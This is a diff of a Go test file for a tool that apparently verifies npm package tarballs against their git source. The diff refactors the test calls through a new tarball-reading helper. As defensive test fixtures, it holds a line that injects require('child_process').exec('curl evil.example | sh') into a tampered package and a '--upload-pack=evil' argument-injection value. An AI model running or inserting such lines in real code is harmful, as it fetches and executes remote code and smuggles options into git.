@@ -4,7 +4,6 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
-	"context"
 	"encoding/base64"
 	"encoding/json"
 	"io"
@@ -21,6 +20,7 @@ import (
 	"google.golang.org/protobuf/encoding/protojson"
 
 	"github.com/airlockdev/airlock/internal/npmtest"
+	"github.com/airlockdev/airlock/internal/tardiff"
 	"github.com/airlockdev/airlock/pack"
 )
 
@@ -70,7 +70,7 @@ func TestOldNPMDoesNotReproduce(t *testing.T) {
 	tgz := npmtest.Fetch(t, p)
 	data, _ := os.ReadFile(tgz)
 	src := npmtest.Extract(t, tgz)
-	r, err := Run(t.Context(), data, Options{GitURL: src, Commit: repo(t, src), Env: testEnv(t), TempDir: t.TempDir()})
+	r, err := run(t, data, Options{GitURL: src, Commit: repo(t, src), Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -91,7 +91,7 @@ func TestPublishedReproduce(t *testing.T) {
 			}
 			src := npmtest.Extract(t, tgz)
 			commit := repo(t, src)
-			r, err := Run(t.Context(), data, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
+			r, err := run(t, data, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -149,7 +149,7 @@ func TestTamperedAfterPacking(t *testing.T) {
 	commit := repo(t, src)
 	orig, _ := os.ReadFile(filepath.Join(src, "index.js"))
 	bad := repackWith(t, data, "index.js", append(orig, []byte("\nrequire('child_process').exec('curl evil.example | sh')\n")...))
-	r, err := Run(t.Context(), bad, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
+	r, err := run(t, bad, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -178,21 +178,17 @@ func TestBuildOutput(t *testing.T) {
 	write("build.js", `require('fs').mkdirSync('dist',{recursive:true});require('fs').writeFileSync('dist/index.js','module.exports = 42;\n');`)
 	write(".gitignore", "dist/\n")
 	commit := repo(t, src)
-	// The release: packed with its build.
-	built := t.TempDir()
-	cmd := exec.Command("node", "build.js")
-	cmd.Dir = src
-	if out, err := cmd.CombinedOutput(); err != nil {
-		t.Skipf("node: %v %s", err, out)
+	// --run-scripts runs the build with node: it must be here.
+	if _, err := exec.LookPath("node"); err != nil {
+		t.Fatalf("node is needed to run the package's build: %v", err)
 	}
+	// The release, as its build packed it.
 	tarball := tarOf(t, map[string]string{
 		"package.json":  `{"name":"built","version":"1.0.0","main":"dist/index.js","files":["dist"],"scripts":{"prepack":"node build.js"}}`,
 		"dist/index.js": "module.exports = 42;\n",
 	})
-	os.RemoveAll(filepath.Join(src, "dist"))
-	_ = built
 
-	r, err := Run(t.Context(), tarball, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
+	r, err := run(t, tarball, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -205,7 +201,7 @@ func TestBuildOutput(t *testing.T) {
 		t.Errorf("report:\n%s", b.String())
 	}
 
-	r, err = Run(t.Context(), tarball, Options{GitURL: src, Commit: commit, RunScripts: true, Env: testEnv(t), TempDir: t.TempDir()})
+	r, err = run(t, tarball, Options{GitURL: src, Commit: commit, RunScripts: true, Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -239,7 +235,7 @@ func TestSourceFolderWithoutGit(t *testing.T) {
 	os.WriteFile(filepath.Join(src, "package.json"), []byte(`{"name":"plain","version":"1.0.0"}`), 0o644)
 	os.WriteFile(filepath.Join(src, "a.js"), []byte("1\n"), 0o644)
 	tarball := tarOf(t, map[string]string{"package.json": `{"name":"plain","version":"1.0.0"}`, "a.js": "2\n", "extra.js": "3\n"})
-	r, err := Run(t.Context(), tarball, Options{Dir: src, Env: testEnv(t), TempDir: t.TempDir()})
+	r, err := run(t, tarball, Options{Dir: src, Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -255,7 +251,7 @@ func TestPackageInSubfolder(t *testing.T) {
 	os.WriteFile(filepath.Join(src, "packages", "one", "package.json"), []byte(`{"name":"one","version":"1.0.0"}`), 0o644)
 	commit := repo(t, src)
 	tarball := tarOf(t, map[string]string{"package.json": `{"name":"one","version":"1.0.0"}`})
-	r, err := Run(t.Context(), tarball, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
+	r, err := run(t, tarball, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -265,7 +261,7 @@ func TestPackageInSubfolder(t *testing.T) {
 }
 
 func TestBadCommit(t *testing.T) {
-	_, err := Run(context.Background(), tarOf(t, map[string]string{"package.json": `{"name":"x","version":"1.0.0"}`}),
+	_, err := run(t, tarOf(t, map[string]string{"package.json": `{"name":"x","version":"1.0.0"}`}),
 		Options{GitURL: t.TempDir(), Commit: "--upload-pack=evil", Env: testEnv(t), TempDir: t.TempDir()})
 	if err == nil || !strings.Contains(err.Error(), "is not a commit id") {
 		t.Fatalf("err = %v", err)
@@ -385,7 +381,7 @@ func TestPNPMWorkspace(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	r, err := Run(t.Context(), data, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
+	r, err := run(t, data, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -394,4 +390,14 @@ func TestPNPMWorkspace(t *testing.T) {
 		WriteText(&b, r)
 		t.Fatalf("manager %q, path %q:\n%s", r.Manager, r.Subdir, b.String())
 	}
+}
+
+// run reads tarball as the commands do, then rebuilds it.
+func run(t *testing.T, tarball []byte, o Options) (*Result, error) {
+	t.Helper()
+	pub, err := tardiff.Read(t.Context(), "tarball", tarball, o.Limits)
+	if err != nil {
+		t.Fatalf("reading the tarball: %v", err)
+	}
+	return Run(t.Context(), pub, o)
 }
